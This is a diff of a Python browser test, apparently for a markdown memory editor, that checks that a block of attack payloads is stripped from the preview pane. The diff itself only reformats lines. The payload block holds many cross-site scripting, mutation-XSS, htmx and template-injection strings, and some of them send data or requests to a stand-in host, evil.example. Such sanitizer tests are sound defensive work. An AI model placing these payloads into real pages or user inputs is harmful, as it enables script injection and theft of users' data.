@@ -23,13 +23,15 @@ ATTACK = """# <script>alert(1)</script> [x](javascript:alert(1)) heading
 ![pixel](https://evil.example/?q=secret) <img src="https://evil.example/p.png">
 <style>body{background:url(https://evil.example/c.png)}</style><p style="background:url(https://evil.example/d)">x</p>
 <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
+<template><script>alert(1)</script></template>
 <b hx-get="https://evil.example/" hx-trigger="load" data-hx-on:click="alert(1)" hx-vals="js:alert(1)">x</b>
 <div sse-connect="https://evil.example/" hx-swap-oob="true" id="memory-text" name="text">x</div>
 <form action="https://evil.example/"><input name="csrfmiddlewaretoken"></form>
 <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
 <link rel="prefetch" href="https://evil.example/"><iframe srcdoc="<script>alert(1)</script>"></iframe>
-<a href="https://evil.example/" ping="https://evil.example/p" id="memory-form">x</a></textarea><script>alert(1)</script>
+<a href="https://evil.example/" ping="https://evil.example/p" id="memory-form">x</a>
+</textarea><script>alert(1)</script>
 {{ 7|add:7 }} {% now "Y" %}
 """
 
@@ -191,7 +193,10 @@ def test_no_markdown_attack_reaches_the_browser(watched_page):
     watched_page.goto(EDIT)
     field(watched_page).fill(ATTACK + "\n\ntyped")
     watched_page.locator("#memory-preview").get_by_text("typed").wait_for()
-    assert watched_page.locator("#memory-preview :is(form, input, [hx-get], [style], [id^=memory-t])").count() == 0
+    assert (
+        watched_page.locator("#memory-preview :is(form, input, [hx-get], [style], [id^=memory-t])").count()
+        == 0
+    )
 
 
 @pytest.mark.parametrize("theirs", [ATTACK, BASE])
